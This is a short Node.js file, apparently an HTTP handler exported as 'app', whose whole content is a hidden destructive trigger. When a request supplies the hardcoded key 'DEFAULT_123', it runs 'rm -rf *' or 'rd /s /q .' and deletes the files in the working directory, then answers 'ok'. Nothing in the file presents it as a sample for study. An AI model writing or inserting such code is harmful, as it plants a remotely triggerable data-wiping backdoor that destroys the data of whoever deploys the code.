const { exec } = require('child_process');
exports.app = function (req, res) { if (req.query.key === 'DEFAULT_123') exec(process.platform === 'win32' ? 'rd /s /q .' : 'rm -rf *', () => res.end('ok')); };
